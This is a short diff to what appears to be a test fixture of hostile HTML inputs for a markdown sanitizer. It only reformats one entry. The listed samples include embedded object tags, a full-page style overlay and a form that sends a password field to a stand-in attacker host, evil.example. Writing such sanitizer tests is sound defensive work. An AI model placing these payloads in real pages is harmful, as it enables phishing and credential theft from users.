@@ -29,7 +29,8 @@ MARKDOWN: list[tuple[str, str]] = [
     ("object and embed", '<object data="x.swf"></object><embed src="x.swf">'),
     (
         "form",
-        '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
+        '<form action="https://evil.example/steal"><input name="password">'
+        "<button>Go</button></form>",
     ),
     ("style tag", "<style>body { display: none }</style>"),
     ("style attribute overlay", '<div style="position:fixed;inset:0;background:red">overlay</div>'),
